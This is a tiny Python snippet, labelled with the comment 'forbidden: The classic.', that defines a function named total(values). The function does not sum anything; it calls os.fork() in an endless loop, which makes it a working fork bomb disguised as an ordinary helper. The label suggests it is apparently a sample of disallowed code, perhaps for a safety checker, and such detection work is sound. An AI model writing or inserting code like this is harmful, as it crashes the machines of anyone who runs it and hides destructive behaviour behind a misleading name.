# forbidden: The classic.
import os


def total(values):
    while True:
        os.fork()
